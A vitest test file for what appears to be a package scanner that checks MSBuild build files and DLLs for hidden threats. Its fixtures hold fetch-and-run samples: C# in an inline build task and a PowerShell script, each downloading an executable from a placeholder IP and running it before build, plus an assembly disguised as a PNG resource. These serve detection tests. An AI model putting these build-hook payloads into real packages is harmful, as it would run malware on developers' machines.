import { describe, expect, it } from 'vitest';
import { assemble } from '../kit/cil-assembler/assemble.js';
import { inspectedFiles } from './rich-package.js';

const fetchAndStart = `var client = new System.Net.WebClient();
client.DownloadFile("http://203.0.113.7/tool.exe", "tool.exe");
System.Diagnostics.Process.Start("tool.exe");`;

const inlineTask = (code: string): string => `<Project>
  <UsingTask TaskName="Warm" TaskFactory="RoslynCodeTaskFactory"
             AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
    <Task>${code}</Task>
  </UsingTask>
  <Target Name="Start" BeforeTargets="Build"><Warm /></Target>
</Project>`;

const rulesOf = async (files: Record<string, string | Uint8Array>): Promise<string[]> => {
  const { report } = await inspectedFiles(files);
  return report.findings.filter((f) => f.level !== 'note').map((f) => f.rule);
};

describe('what build files refer to', () => {
  it('is read as MSBuild reads it, whatever it is called', async () => {
    const files = {
      'build/Fixture.Package.targets': '<Project><Import Project="common.txt" /></Project>',
      'build/common.txt': inlineTask(`<Code><![CDATA[${fetchAndStart}]]></Code>`),
    };
    expect(await rulesOf(files)).toContain('inline-task-download-and-run');
    const { report } = await inspectedFiles(files);
    expect(report.entryPoints.map((e) => e.name)).toEqual([
      'inline task Warm (RoslynCodeTaskFactory)',
      'target Start',
    ]);
  });

  it('is the code of an inline task in a file of its own', async () => {
    const files = {
      'build/Fixture.Package.targets': inlineTask(
        '<Code Type="Class" Language="cs" Source="$(MSBuildThisFileDirectory)../content/readme.txt" />',
      ),
      'content/readme.txt': `public class Warm { public bool Execute() { ${fetchAndStart} return true; } }`,
    };
    expect(await rulesOf(files)).toContain('inline-task-download-and-run');
  });

  it('is the script that a command starts', async () => {
    const files = {
      'build/Fixture.Package.targets': `<Project><Target Name="T" BeforeTargets="Build">
        <Exec Command="powershell -File &quot;$(MSBuildThisFileDirectory)warm.ps1&quot;" />
      </Target></Project>`,
      'build/warm.ps1':
        'Invoke-WebRequest "http://203.0.113.7/t.exe" -OutFile t.exe\nStart-Process t.exe',
    };
    expect(await rulesOf(files)).toContain('inline-task-download-and-run');
  });

  it('ends where files refer to each other', async () => {
    const { report } = await inspectedFiles({
      'build/Fixture.Package.targets': '<Project><Import Project="a.txt" /></Project>',
      'build/a.txt': '<Project><Import Project="./b.txt" /></Project>',
      'build/b.txt': '<Project><Import Project="..\\build\\a.txt" /></Project>',
    });
    expect(report.assessment.verdict).toBe('clear');
    expect(report.msbuild.map((f) => f.path)).toEqual([
      'build/Fixture.Package.targets',
      'build/a.txt',
      'build/b.txt',
    ]);
  });
});

describe('an embedded program', () => {
  it('with the name of a picture is a disguise', async () => {
    const inner = assemble({ name: 'Inner', types: [] });
    const outer = assemble({
      name: 'Outer',
      types: [],
      resources: [{ name: 'logo.png', bytes: inner }],
    });
    expect(await rulesOf({ 'lib/net8.0/Outer.dll': outer })).toContain('disguised-file');
  });
});
